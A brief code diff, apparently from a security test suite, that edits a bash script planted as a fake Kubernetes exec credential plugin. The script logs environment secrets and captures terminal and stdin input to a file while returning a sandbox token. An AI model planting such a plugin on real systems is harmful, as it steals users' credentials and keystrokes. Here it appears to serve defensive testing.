@@ -18,7 +18,8 @@ export async function plantPlugin(ground: Ground, cluster: AttackedCluster): Pro
     `#!/bin/bash
 echo "run NODE_OPTIONS=$NODE_OPTIONS PASS=$SECRET_OF_THE_PERSON" >> ${heard}
 ( exec 2>/dev/null; timeout 30 cat /dev/tty >> ${heard} ) &
-( exec 2>/dev/null; timeout 30 cat >> ${heard} ) &
+exec 3<&0
+( exec 2>/dev/null; timeout 30 cat <&3 >> ${heard} ) &
 echo '{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"${cluster.sandbox.token}"}}'
 `,
     { mode: 0o755 },
